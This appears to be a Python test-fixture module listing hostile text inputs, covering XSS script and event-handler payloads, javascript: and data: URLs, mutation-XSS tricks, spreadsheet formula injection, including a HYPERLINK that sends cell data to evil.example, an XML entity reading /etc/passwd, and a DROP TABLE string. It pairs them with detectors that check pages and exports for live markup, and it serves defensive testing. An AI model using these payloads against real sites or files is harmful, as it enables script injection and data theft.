"""Hostile text, written for these tests: what someone in the room (or at the facilitator's
keyboard) might type to make a page, a download or a spreadsheet run something.

Every payload that would create an element marks it with an ``x-pwn`` attribute or the id
``pwn``, and every script it would run calls ``alert`` (a dialog the browser reports) or sets
``window.__pwn``. So a page or a file is clean when none of those marks is live in it,
whatever the payload was.

The tests send each payload through every text field a user can type, and check the pages
(``tests/e2e/test_hostile_input_in_browser.py``) and the downloads
(``tests/web/test_hostile_input_in_exports.py``).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import NamedTuple


class Payload(NamedTuple):
    name: str
    text: str


LONG_WORD = "Rehabiliteringskedjeutredningsförfarande" * 49  # 1,960 letters, no space

PAYLOADS: tuple[Payload, ...] = (
    # Script tags, plain, mixed-case, split and nested.
    Payload("script", "<script>alert('pwn')</script>"),
    Payload("script-src", '<script src="//evil.example/x.js" x-pwn></script>'),
    Payload("script-mixed-case", "<ScRiPt>window.__pwn=1;alert(1)</sCrIpT>"),
    Payload("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Payload("script-close-in-string", "';alert(1);//</script><script>alert(2)</script>"),
    # Event-handler attributes.
    Payload("img-onerror", "<img src=x onerror=alert(1) x-pwn>"),
    Payload("img-upper-case", "<IMG SRC=x ONERROR=alert(1) X-PWN>"),
    Payload("svg-onload", "<svg onload=alert(1) id=pwn>"),
    Payload("body-onload", "<body onload=alert(1) x-pwn>"),
    Payload("details-ontoggle", "<details open ontoggle=alert(1) x-pwn>"),
    Payload("input-onfocus", "<input autofocus onfocus=alert(1) x-pwn>"),
    Payload("attribute-breakout", '"><img src=x onerror=alert(1) x-pwn>'),
    Payload("single-quote-breakout", "'><svg onload=alert(1) id=pwn>"),
    Payload("tab-in-handler", "<img src=x\tonerror\t=\talert(1) x-pwn>"),
    # URLs that run script: in HTML, in Markdown links and autolinks.
    Payload("a-javascript", '<a href="javascript:alert(1)" x-pwn>klicka</a>'),
    Payload("iframe-javascript", '<iframe src="javascript:alert(1)" x-pwn></iframe>'),
    Payload("a-entity-scheme", '<a href="&#106;avascript:alert(1)" x-pwn>x</a>'),
    Payload("markdown-javascript", "[klicka här](javascript:alert(1))"),
    Payload("markdown-escaped-colon", "[klicka](javascript\\:alert(1))"),
    Payload("markdown-mixed-case", "[x]( JaVaScRiPt:alert(1) )"),
    Payload("markdown-entity-scheme", "[x](&#x6A;avascript:alert(1))"),
    Payload("markdown-vbscript", "[x](vbscript:msgbox(1))"),
    Payload("markdown-data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    Payload("markdown-autolink", "<javascript:alert(1)>"),
    Payload("markdown-reference", "[x][pwn]\n\n[pwn]: javascript:alert(1)"),
    Payload("markdown-image", '![pwn" onerror="alert(1)](x)'),
    Payload("markdown-image-javascript", "![pwn](javascript:alert(1))"),
    Payload("markdown-syntax", "# Rubrik\n\n**fet** _kursiv_ `kod` > citat\n- lista\n1. ett"),
    Payload("gfm-autolinks", "https://evil。example/x http://3232235842/x pwn@evil.example"),
    # SVG and MathML, and the mutation tricks they allow.
    Payload("svg-script", "<svg><script>alert(1)</script></svg>"),
    Payload("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x x-pwn>"),
    Payload("mathml-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Payload("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1) x-pwn>">'),
    # Broken and half-open tags.
    Payload("unclosed-tag", "<img src=x onerror=alert(1) x-pwn"),
    Payload("double-open", "<<script>alert(1);//<</script>"),
    Payload("stray-brackets", "a < b > c & d &amp; e &lt; f"),
    # Entity-encoded text: must stay the letters typed, never be decoded into a tag.
    Payload("entity-encoded", "&lt;img src=x onerror=alert(1) x-pwn&gt;"),
    Payload("full-width-brackets", "＜script＞alert(1)＜/script＞"),
    # Template injection.
    Payload("jinja", "{{7*7}} {{ config }} {% raw %}x{% endraw %}"),
    Payload("js-template", "${alert(1)} ${7*7} #{7*7}"),
    # Formula injection for spreadsheets.
    Payload("formula-hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"klicka")'),
    Payload("formula-plus-cmd", "+cmd|' /C calc'!A0"),
    Payload("formula-minus", "-1+1"),
    Payload("formula-at-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("formula-equals", "=1+1"),
    # Bidirectional overrides, invisible characters, NUL and other control characters.
    Payload("rtl-override", "Anna\u202e)KF( gnp.exe"),
    Payload("zero-width", "\u200b<script>alert(1)</script>\u200d"),
    Payload("nul-byte", "nul\x00<script>alert(1)</script>"),
    Payload("control-characters", "ctrl\x01\x07\x1b[31mröd\x7f\x0bslut"),
    Payload("newlines", "rad ett\r\nrad två\rrad tre\n\n<b>fet</b>"),
    # Very long words.
    Payload("long-word", LONG_WORD),
    Payload("long-brackets", "<" * 500 + "x-pwn" + ">" * 500),
    # Comments, CDATA, style and XML.
    Payload("html-comment", "<!-- <img src=x onerror=alert(1) x-pwn> -->"),
    Payload("comment-breakout", "--><img src=x onerror=alert(1) x-pwn><!--"),
    Payload("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Payload("cdata-close", "]]><script>alert(1)</script><![CDATA["),
    Payload("style-tag", "<style>body{display:none} #pwn{}</style><i x-pwn>"),
    Payload("style-attribute", '<div style="background:url(javascript:alert(1))" x-pwn>'),
    Payload("xml-entity", '<!DOCTYPE x [<!ENTITY pwn SYSTEM "file:///etc/passwd">]>&pwn;'),
    # Other elements that navigate or load.
    Payload(
        "meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)" x-pwn>'
    ),
    Payload("base-href", '<base href="//evil.example/" x-pwn>'),
    Payload("form-action", "<form action=javascript:alert(1)><button x-pwn>x</button></form>"),
    Payload("object-data", '<object data="javascript:alert(1)" x-pwn></object>'),
    Payload("quotes-and-backslashes", '"\'\\" \\n \\u0000 `; DROP TABLE contributions;--'),
)

# Payloads whose words any text field refuses (with its ``invalid_<field>`` code).
REFUSED = frozenset({"nul-byte"})

# What documents (minutes, notices) show of the rest, and every other page and file too.
ACCEPTED: tuple[Payload, ...] = tuple(p for p in PAYLOADS if p.name not in REFUSED)

_CONTROL = re.compile("[\x01-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]")


def stored(text: str) -> str | None:
    """The text as docs/protocol.md says every text field stores it: ``\\r\\n`` and ``\\r``
    become ``\\n``, other control characters but tab become spaces, and the ends are trimmed.
    ``None`` for a text that is refused (a NUL character)."""
    if "\x00" in text:
        return None
    return _CONTROL.sub(" ", text.replace("\r\n", "\n").replace("\r", "\n")).strip()


def fitted(text: str, limit: int) -> str:
    """``text`` cut to a field's length limit (counted after storing, as the server does)."""
    kept = stored(text)
    return text if kept is None or len(kept) <= limit else kept[:limit]


def packed(limit: int, separator: str = " ") -> list[str]:
    """Every accepted payload, cut to ``limit``, packed into as few values of at most
    ``limit`` characters (once stored) as they go: for a field that holds one value, or
    fewer values than there are payloads."""
    values, current = [], ""
    for payload in ACCEPTED:
        text = fitted(payload.text, limit)
        candidate = text if not current else current + separator + text
        if len(stored(candidate)) > limit:
            values.append(current)
            current = text
        else:
            current = candidate
    return [*values, current]


def joined(texts, limit: int, separator: str = "\n\n") -> str:
    """As many of ``texts`` as fit in ``limit`` characters, one after another."""
    out = ""
    for text in texts:
        candidate = text if not out else out + separator + text
        if len(candidate) > limit:
            break
        out = candidate
    return out


def one_line(text: str) -> str:
    """Whitespace folded to single spaces: how a document's text reads once its lines,
    runs and cells are put together."""
    return " ".join(text.split())


# Evaluated in a page: every way a payload could have become live there.
INJECTED_IN_PAGE_JS = r"""() => {
  const problems = [];
  for (const element of document.querySelectorAll("[x-pwn], #pwn")) {
    problems.push("injected element " + element.outerHTML.slice(0, 80));
  }
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      if (attribute.name.startsWith("on")) {
        problems.push("handler " + attribute.name + " on " + element.tagName);
      }
      if (["href", "src", "action", "formaction", "data", "xlink:href"].includes(attribute.name)
          && /^\s*(javascript|vbscript|data:text\/html)/i.test(attribute.value)) {
        problems.push("script URL in " + element.tagName + " " + attribute.value.slice(0, 60));
      }
      if (["href", "src"].includes(attribute.name) && /evil|3232235842/i.test(attribute.value)) {
        problems.push("link made of typed text: " + attribute.value.slice(0, 60));
      }
    }
  }
  for (const element of document.querySelectorAll("script, style")) {
    if (/pwn|alert/.test(element.textContent)) {
      problems.push("typed " + element.tagName + " is live");
    }
  }
  for (const tag of ["iframe", "object", "embed", "base", "meta[http-equiv=refresh]", "math"]) {
    if (document.querySelector(tag)) problems.push("element " + tag + " exists");
  }
  if (typeof window.__pwn !== "undefined") problems.push("window.__pwn is set");
  return problems;
}"""


class _LiveMarkup(HTMLParser):
    """Collects what in an HTML file would act rather than read: script and style with a
    payload's words, event handlers, script URLs, embedded frames and the payloads' marks."""

    DANGEROUS_TAGS = {
        "script",
        "iframe",
        "object",
        "embed",
        "base",
        "form",
        "math",
        "svg",
        "meta",
        # Their content is parsed differently from the rest (mutation XSS).
        "noscript",
        "template",
        "xmp",
        "plaintext",
    }
    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "content"}

    def __init__(self, links: tuple[str, ...]):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.links = links
        self._in: str | None = None

    def handle_starttag(self, tag, attrs):
        if tag in self.DANGEROUS_TAGS and not (tag == "meta" and "http-equiv" not in dict(attrs)):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in ("x-pwn",) or (name == "id" and value == "pwn"):
                self.problems.append(f"<{tag} {name}={value}>")
            if name in self.URL_ATTRIBUTES and re.match(
                r"\s*(javascript|vbscript|data:text/html)", value, re.I
            ):
                self.problems.append(f"<{tag} {name}={value[:40]}>")
            if (
                name in ("href", "src")
                and re.search(r"evil|3232235842", value, re.I)
                and not value.startswith(self.links)
            ):
                self.problems.append(f"<{tag} {name}={value[:40]}> made of typed text")
        if tag in ("script", "style"):
            self._in = tag

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == self._in:
            self._in = None

    def handle_data(self, data):
        if self._in and re.search(r"pwn|alert", data):
            self.problems.append(f"<{self._in}> holding typed words")


def live_markup(html: str, links: tuple[str, ...] = ()) -> list[str]:
    """What in ``html`` a payload made live (empty when nothing). A link to an address
    that was typed counts too, unless it starts with one of ``links`` (such as
    ``"mailto:"``)."""
    parser = _LiveMarkup(links)
    parser.feed(html)
    parser.close()
    return parser.problems


class _Text(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.pieces: list[str] = []
        self._skip = 0

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "style", "head"):
            self._skip += 1

    def handle_endtag(self, tag):
        if tag in ("script", "style", "head"):
            self._skip -= 1

    def handle_data(self, data):
        if not self._skip:
            self.pieces.append(data)


def html_text(html: str) -> str:
    """The text a reader sees in ``html`` (no head, script or style), whitespace folded,
    without the word joiners (U+2060) that minutes.md puts where a renderer would otherwise
    make a link."""
    parser = _Text()
    parser.feed(html)
    parser.close()
    return one_line("".join(parser.pieces).replace("\u2060", ""))
